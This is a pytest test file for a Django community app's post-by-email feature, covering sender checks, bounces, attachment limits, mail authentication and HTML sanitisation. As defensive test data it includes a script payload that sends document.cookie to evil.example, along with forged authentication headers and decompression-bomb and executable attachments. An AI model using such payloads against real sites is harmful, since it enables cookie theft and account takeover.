"""Post by email (F-POST-BY-EMAIL): a member's email to `<slug>@<domain>` becomes a post with
its files; unknown senders, non-members and guessed secret addresses get a clear bounce, and
nothing is posted."""
# ruff: noqa: F811 - the fixtures come from inbound_helpers

import pytest
from django.test import Client

from rucher.accounts.models import User
from rucher.communities.models import Membership
from rucher.content.models import Attachment, Post
from rucher.core.factories import PersonFactory
from rucher.mail.inbound import handle_inbound
from rucher.mail.models import InboundMessage
from tests.mail.inbound_helpers import (  # noqa: F401 - fixtures
    DOMAIN,
    PDF_BYTES,
    email_bytes,
    inbound,
    mail_settings,
    png_bytes,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english_bounces(settings):
    """These tests read the bounces in English: the sender's default language is made English
    here (tests/mail/test_bounce_language.py checks the French default)."""
    settings.LANGUAGE_CODE = "en"


def send(inbound, visibility="private", *, position="member", to=None, sender=None, **kwargs):
    to = to or inbound.community(visibility)
    sender = sender or inbound.address(position)
    kwargs.setdefault("subject", "Quarterly figures")
    kwargs.setdefault("text", "Here are the figures.")
    return handle_inbound(
        email_bytes(to=to, sender=sender, **kwargs), recipients=[to], sender=sender
    )


def new_posts():
    return Post.objects.exclude(title__endswith=" news")


def client_for(person):
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(person)
    return client


def test_an_email_from_a_member_becomes_a_post_with_its_files(inbound, tmp_path):
    result = send(
        inbound,
        subject="Fwd: Quarterly figures",
        text="Here are the figures.\n\n-- \nBob Member\nFinance",
        attachments=[
            ("chart.png", png_bytes(), "image/png"),
            ("report.pdf", PDF_BYTES, "application/pdf"),
        ],
    )
    assert (result.outcome, result.reason) == ("posted", "")
    assert result.smtp_reply.startswith("250 2.0.0")
    post = new_posts().get()
    assert result.post == post
    assert (post.author, post.title, post.body) == (
        inbound.person("member"),
        "Quarterly figures",
        "Here are the figures.",
    )
    assert list(post.communities.all()) == [inbound.world.communities["private"]]
    files = {a.name: a for a in Attachment.objects.filter(post=post)}
    assert sorted(files) == ["chart.png", "report.pdf"]
    assert files["chart.png"].is_image and files["report.pdf"].content_type == "application/pdf"
    row = InboundMessage.objects.get()
    assert (row.outcome, row.post_id, row.recipient) == (
        "posted",
        post.pk,
        inbound.community("private"),
    )
    # The files are served to readers only.
    for name, attachment in files.items():
        url = f"/attachments/{attachment.pk}/{name}"
        assert client_for(inbound.person("manager")).get(url).status_code == 200
        assert client_for(inbound.person("outsider")).get(url).status_code == 404
        assert client_for(inbound.person("leaver")).get(url).status_code == 404


def test_an_html_only_email_with_scripts_becomes_safe_text(inbound):
    html = (
        "<html><head><script>alert(1)</script></head><body><h1>Big news</h1>"
        "<p>We <em>won</em> the <a href='https://example.org/deal'>deal</a>!</p>"
        "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
        "<p onclick='evil()'>Thanks all</p></body></html>"
    )
    result = send(inbound, text=None, html=html)
    assert result.outcome == "posted"
    post = new_posts().get()
    assert post.body == "Big news\n\nWe won the deal (https://example.org/deal)!\n\nThanks all"
    for word in ("<script", "alert", "evil", "onclick", "cookie"):
        assert word not in post.body_html


def test_the_subject_is_an_optional_title(inbound):
    assert send(inbound, subject="", text="No title here.").outcome == "posted"
    assert new_posts().get().title == ""


def test_a_subject_and_files_only_make_the_subject_the_text(inbound):
    result = send(
        inbound,
        subject="Photo of the team day",
        text="\n\n-- \nBob\n",
        attachments=[("team.png", png_bytes(), "image/png")],
    )
    assert result.outcome == "posted"
    post = new_posts().get()
    assert (post.title, post.body) == ("", "Photo of the team day")
    assert post.attachments.count() == 1


def test_an_empty_email_is_refused(inbound):
    result = send(inbound, subject="  ", text="\n-- \nBob\n")
    assert (result.outcome, result.reason) == ("bounced", "empty_post")
    assert "empty" in result.message
    assert not new_posts().exists()


def test_a_long_subject_is_shortened_to_the_title_limit(inbound):
    assert send(inbound, subject="Word " * 100).outcome == "posted"
    title = new_posts().get().title
    assert len(title) == 200 and title.endswith("…")


def test_a_too_long_text_is_refused_with_the_limit(inbound):
    result = send(inbound, text="word " * 5000)
    assert (result.outcome, result.reason) == ("bounced", "invalid")
    assert "text: Ensure this value has at most 20000 characters" in result.message
    assert not new_posts().exists()


def test_an_address_with_a_detail_reaches_the_community(inbound):
    slug = inbound.world.communities["open"].slug
    assert send(inbound, to=f"{slug}+figures@{DOMAIN}").outcome == "posted"


# --- who may post --------------------------------------------------------------------------


def test_an_unknown_sender_is_refused_without_learning_which_addresses_exist(inbound):
    existing = send(inbound, "open", sender="stranger@elsewhere.example")
    missing = send(inbound, to=f"no-such-community@{DOMAIN}", sender="stranger@elsewhere.example")
    secret = send(inbound, "secret", sender="stranger@elsewhere.example")
    assert (existing.outcome, existing.reason) == ("bounced", "unknown_sender")
    assert existing.smtp_reply == missing.smtp_reply == secret.smtp_reply
    assert existing.smtp_reply.startswith("550 5.7.1 Your address is not the registered address")
    assert not new_posts().exists()


def test_a_departed_person_is_an_unknown_sender(inbound):
    User.objects.filter(pk=inbound.person("member").pk).update(is_active=False)
    assert send(inbound).reason == "unknown_sender"
    assert not new_posts().exists()


def test_a_shared_address_is_refused(inbound):
    PersonFactory(username="twin", email="MEMBER@example.org")
    result = send(inbound)
    assert (result.outcome, result.reason) == ("bounced", "ambiguous_sender")
    assert not new_posts().exists()


@pytest.mark.parametrize(
    ("position", "visibility"),
    [
        ("outsider", "open"),
        ("outsider", "private"),
        ("leaver", "private"),
        ("requester", "private"),
        ("administrator", "private"),
    ],
)
def test_a_non_member_of_a_visible_community_is_told_to_join(inbound, position, visibility):
    result = send(inbound, visibility, position=position)
    assert (result.outcome, result.reason) == ("bounced", "not_member")
    assert "not a member" in result.message
    assert result.exit_code == 77
    assert not new_posts().exists()


@pytest.mark.parametrize("position", ["outsider", "leaver", "requester"])
def test_guessing_a_secret_community_is_the_same_as_a_missing_address(inbound, position):
    secret = send(inbound, "secret", position=position)
    missing = send(inbound, to=f"no-such-community@{DOMAIN}", position=position)
    assert (secret.outcome, secret.reason) == ("bounced", "no_such_address")
    assert (secret.message, secret.smtp_reply, secret.exit_code) == (
        missing.message,
        missing.smtp_reply,
        missing.exit_code,
    )
    assert secret.smtp_reply == "550 5.1.1 No such address: check it on the community's page."
    assert secret.exit_code == 67
    assert not new_posts().exists()


def test_a_member_of_a_secret_community_posts_there(inbound):
    assert send(inbound, "secret").outcome == "posted"


def test_a_removed_member_may_not_post(inbound):
    Membership.objects.filter(
        person=inbound.person("member"), community=inbound.world.communities["open"]
    ).update(status=Membership.Status.REMOVED)
    assert send(inbound, "open").reason == "not_member"
    assert not new_posts().exists()


@pytest.mark.parametrize(
    "to",
    ["private@other.example", f"@{DOMAIN}", f"a\x00b@{DOMAIN}", f"{'x' * 80}@{DOMAIN}"],
)
def test_addresses_that_are_not_ours_or_not_communities_bounce(inbound, to):
    result = handle_inbound(
        email_bytes(to="someone@example.org", sender="member@example.org"),
        recipients=[to],
        sender="member@example.org",
    )
    assert (result.outcome, result.reason) == ("bounced", "no_such_address")
    assert not new_posts().exists()


# --- files ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "mime"),
    [
        ("page.html", b"<html><script>alert(1)</script></html>", "text/html"),
        ("tool.exe", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64, "application/octet-stream"),
        ("photo.png", PDF_BYTES, "image/png"),  # the name lies about the content
        ("empty.txt", b"", "text/plain"),
    ],
)
def test_a_refused_file_refuses_the_whole_email(inbound, tmp_path, name, data, mime):
    result = send(
        inbound,
        attachments=[("fine.png", png_bytes(), "image/png"), (name, data, mime)],
    )
    assert (result.outcome, result.reason) == ("bounced", "attachment_refused")
    assert name in result.message and "Nothing was published" in result.message
    assert not new_posts().exists()
    assert Attachment.objects.count() == 0
    # The file stored before the refused one is gone too.
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


def test_a_huge_file_refuses_the_whole_email(inbound, settings, tmp_path):
    settings.RUCHER_ATTACHMENT_MAX_BYTES = 2048
    result = send(inbound, attachments=[("big.pdf", PDF_BYTES + b"0" * 4096, "application/pdf")])
    assert (result.outcome, result.reason) == ("bounced", "attachment_too_large")
    assert result.smtp_reply.startswith("552 5.3.4")
    assert "2.0" in result.message  # the limit, in KB
    assert not new_posts().exists() and Attachment.objects.count() == 0


def test_more_than_ten_files_are_refused(inbound):
    files = [(f"p{i}.png", png_bytes(), "image/png") for i in range(11)]
    result = send(inbound, attachments=files)
    assert (result.outcome, result.reason) == ("bounced", "too_many_attachments")
    assert not new_posts().exists() and Attachment.objects.count() == 0


def test_an_attached_email_is_refused_clearly(inbound):
    from email.message import EmailMessage

    inner = EmailMessage()
    inner["Subject"] = "inner"
    inner.set_content("forwarded")
    outer = EmailMessage()
    outer["From"] = inbound.address("member")
    outer["To"] = inbound.community("private")
    outer["Subject"] = "FYI"
    outer.set_content("See attached")
    outer.add_attachment(inner)
    result = handle_inbound(
        outer.as_bytes(), recipients=[inbound.community("private")], sender="member@example.org"
    )
    assert (result.outcome, result.reason) == ("bounced", "attachment_refused")
    assert "forward the message inline" in result.message
    assert not new_posts().exists()


def test_a_failure_after_files_were_stored_leaves_no_file(inbound, tmp_path):
    from unittest import mock

    from rucher.mail import inbound as inbound_module

    with mock.patch.object(inbound_module.posts, "post_publish", side_effect=RuntimeError):
        result = send(inbound, attachments=[("chart.png", png_bytes(), "image/png")])
    assert (result.outcome, result.reason) == ("bounced", "error")
    assert Attachment.objects.count() == 0
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


# --- authentication by the MTA ----------------------------------------------------------------


def test_with_an_authserv_id_only_authenticated_mail_is_published(inbound, settings):
    settings.RUCHER_MAILIN_AUTHSERV_ID = "mx.example.org"
    unsigned = send(inbound)
    assert (unsigned.outcome, unsigned.reason) == ("bounced", "not_authenticated")
    forged = send(
        inbound,
        headers={"Authentication-Results": "mx.evil.example; dmarc=pass header.from=example.org"},
    )
    assert forged.reason == "not_authenticated"
    failed = send(
        inbound,
        headers={"Authentication-Results": "mx.example.org; dkim=fail; dmarc=fail"},
    )
    assert failed.reason == "not_authenticated"
    other_domain = send(
        inbound,
        headers={"Authentication-Results": "mx.example.org; dkim=pass header.d=evil.example"},
    )
    assert other_domain.reason == "not_authenticated"
    assert not new_posts().exists()
    dmarc = send(
        inbound,
        headers={"Authentication-Results": "mx.example.org; spf=pass; dmarc=pass (p=reject)"},
    )
    assert dmarc.outcome == "posted"
    dkim = send(
        inbound,
        subject="Second",
        headers={
            "Authentication-Results": "mx.example.org 1; dkim=pass (2048-bit key) "
            "header.d=example.org header.s=sel"
        },
    )
    assert dkim.outcome == "posted"


# --- hostile HTML ------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_2mb_pathological_html_email_is_read_before_the_transaction_opens(inbound):
    """Reading the HTML holds no database lock (SQLite takes the write lock when a transaction
    begins): the converter runs outside any atomic block, and the post is right."""
    from unittest import mock

    from django.db import connection

    from rucher.mail import inbound as inbound_module

    calls = []

    def outside_transaction(html):
        calls.append(connection.in_atomic_block)
        return inbound_module.html_to_text.__wrapped__(html)

    outside_transaction.__wrapped__ = inbound_module.html_to_text
    html = "<p>Hello team</p>" + "<i></i>a<i>" * 180_000 + "<p>Bye</p>"
    assert len(html) > 2_000_000 - 20_000
    with mock.patch.object(inbound_module, "html_to_text", outside_transaction):
        # The body is far over a post's length: the 2 MB are read, then the post is refused.
        long = send(inbound, text=None, html=html)
        short = send(inbound, text=None, html="<p>Hello team</p>" + "<i></i>" * 280_000)
    assert calls == [False, False]
    assert (long.outcome, long.reason) == ("bounced", "invalid")
    assert short.outcome == "posted"
    assert new_posts().get().body == "Hello team"


def test_a_decompression_bomb_attachment_refuses_the_email(inbound):
    from tests.core.test_images import bomb_png

    result = send(inbound, attachments=[("map.png", bomb_png(), "image/png")])
    assert (result.outcome, result.reason) == ("bounced", "attachment_refused")
    assert "169 megapixels (at most 40)" in result.message
    assert not new_posts().exists()
    assert Attachment.objects.count() == 0


def test_invisible_characters_of_a_subject_are_dropped_not_refused(inbound):
    # A right-to-left mark and a zero-width space, as some mail clients write them.
    result = send(inbound, subject="Réunion\u200f de\u200b lundi\u202e", text="Ordre du jour")
    assert result.outcome == "posted", result.message
    assert new_posts().get().title == "Réunion de lundi"
